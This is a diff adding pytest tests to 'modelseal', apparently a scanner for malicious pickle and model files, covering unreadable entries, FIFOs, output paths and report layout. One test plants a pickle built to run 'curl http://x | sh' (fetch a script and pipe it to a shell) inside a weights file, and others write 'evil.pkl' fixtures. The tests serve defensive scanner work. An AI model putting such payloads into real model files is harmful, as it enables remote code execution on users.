@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import os
 from pathlib import Path
 
 import pytest
@@ -143,3 +144,80 @@ def test_json_report_matches_its_published_schema(model_tree: Path) -> None:
     document = json.loads(modelseal("scan", model_tree, "--format", "json").stdout)
     schema = json.loads((REPO / "docs" / "scan-report.schema.json").read_text())
     jsonschema.validate(document, schema)
+
+
+# --- nothing unscanned is ever PASS (issue 10) ---------------------------------------------------------------
+
+
+def _without_root_privileges(*args: str | Path) -> list[str]:
+    """The CLI as uid 0 without the capabilities that let root read anything: permissions then apply to it."""
+    import shutil
+    import sys
+
+    command = [sys.executable, "-m", "modelseal", *map(str, args)]
+    if os.geteuid() != 0:
+        return command
+    setpriv = shutil.which("setpriv")
+    assert setpriv, "setpriv (util-linux) is needed to drop root's capabilities"
+    return [setpriv, "--securebits", "+noroot,+noroot_locked,+no_setuid_fixup", "--bounding-set", "-all", *command]
+
+
+def test_unreadable_directory_and_file_are_inconclusive_and_the_scan_goes_on(model_tree: Path) -> None:
+    import subprocess
+
+    locked = model_tree / "locked"
+    locked.mkdir()
+    (locked / "evil.pkl").write_bytes(system())
+    (model_tree / "secret.pkl").write_bytes(system())
+    locked.chmod(0)
+    (model_tree / "secret.pkl").chmod(0)
+    try:
+        result = subprocess.run(
+            _without_root_privileges("scan", "--format", "json", model_tree),
+            capture_output=True,
+            text=True,
+            timeout=120,
+        )
+    finally:
+        locked.chmod(0o755)
+    assert result.returncode == 3, result.stdout + result.stderr
+    files = {Path(entry["path"]).name: entry for entry in json.loads(result.stdout)["files"]}
+    assert files["locked"]["status"] == "incomplete" and files["secret.pkl"]["status"] == "incomplete"
+    assert files["clean.pkl"]["status"] == "scanned"  # one unreadable entry does not abandon the others
+
+
+def test_empty_directory_is_inconclusive(tmp_path: Path) -> None:
+    result = modelseal("scan", tmp_path)
+    assert result.returncode == 3 and "no file was scanned" in result.stdout
+
+
+def test_fifo_named_on_the_command_line_is_a_usage_error(tmp_path: Path) -> None:
+    os.mkfifo(tmp_path / "pipe")
+    result = modelseal("scan", tmp_path / "pipe")  # would block forever if opened
+    assert result.returncode == 2 and "fifo" in result.stderr
+    no_traceback(result)
+
+
+def test_output_into_a_missing_directory_is_a_usage_error(model_tree: Path, tmp_path: Path) -> None:
+    result = modelseal("scan", "--format", "json", "--output", tmp_path / "missing" / "report.json", model_tree)
+    assert result.returncode == 2 and "does not exist" in result.stderr
+    no_traceback(result)
+
+
+def test_text_report_fits_80_columns(model_tree: Path) -> None:
+    (model_tree / "sub" / "weights.bin").write_bytes(system("curl http://x | sh"))
+    for index in range(10):
+        (model_tree / f"notes-{index}.txt").write_text("plain text\n")
+    result = modelseal("scan", ".", env={"COLUMNS": "80"}, cwd=model_tree)
+    lines = result.stdout.splitlines()
+    assert max(len(line) for line in lines) <= 80, result.stdout
+    assert lines[0].startswith("modelseal scan: 13 file(s), 1 clean, 1 with findings, 11 data")
+    assert result.stdout.count("data that carries no code") == 1  # data files folded into one paragraph
+    assert "notes-0.txt unknown" not in result.stdout  # none of them gets a section of its own
+
+
+def test_own_signature_files_are_not_counted(model_tree: Path) -> None:
+    (model_tree / "model.sig").write_text("{}")
+    (model_tree / "clean.pkl.scan.sig").write_text("{}")
+    result = modelseal("scan", "--format", "json", model_tree)
+    assert json.loads(result.stdout)["summary"]["files"] == 2
